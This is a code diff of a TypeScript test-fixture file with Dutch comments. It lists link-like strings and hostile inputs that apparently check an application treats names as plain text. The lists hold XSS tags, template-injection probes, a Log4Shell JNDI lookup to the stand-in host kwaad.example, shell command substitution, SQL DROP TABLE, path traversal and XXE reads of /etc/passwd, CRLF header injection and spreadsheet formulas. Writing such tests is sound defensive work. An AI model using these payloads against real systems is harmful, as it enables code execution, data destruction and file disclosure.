@@ -43,12 +43,24 @@ export const SHAPELESS: Readonly<Record<string, string>> = {
   'Hangul filler': '\u3164',
 };
 
+/** What a mail program would make a link of: no name is one. */
+export const LINKS: readonly string[] = [
+  'Klik http://kwaad.example/x nu',
+  'Gefeliciteerd! Ga naar www.kwaad.example',
+  'WWW.KWAAD.EXAMPLE',
+  '\uff57\uff57\uff57\uff0ekwaad.example',
+  'https\uff1a//kwaad.example',
+  'ftp://kwaad.example',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
+  '${jndi:ldap://kwaad.example/a}',
+];
+
 /** What a template engine, a browser, a shell, a spreadsheet or a database would act on; for us they are names. */
 export const MARKUP: readonly string[] = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
   '</p><h1>Overgenomen</h1>',
-  '<a href="https://kwaad.example">klik hier</a>',
+  '<a href="//kwaad.example">klik hier</a>',
   '"><svg onload=alert(1)>',
   "' onmouseover='alert(1)",
   '&lt;b&gt; en &amp;',
@@ -62,13 +74,13 @@ export const MARKUP: readonly string[] = [
   '[[${7*7}]]',
   '{% include "/etc/passwd" %}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
-  '${jndi:ldap://kwaad.example/a}',
+  '${jndi:dns:kwaad.example/a}',
   '$(touch /tmp/kwaad)',
   '`touch /tmp/kwaad`',
   "'; DROP TABLE aanmeldingen;--",
-  '=HYPERLINK("https://kwaad.example")',
+  '=HYPERLINK("mailto:a@kwaad.example")',
   '../../../etc/passwd',
   '%0d%0aBcc: kwaad@duinzicht.example',
   '{"level":"ERROR","message":"verzonnen"}',
-  ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+  ']]><!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]>',
 ];
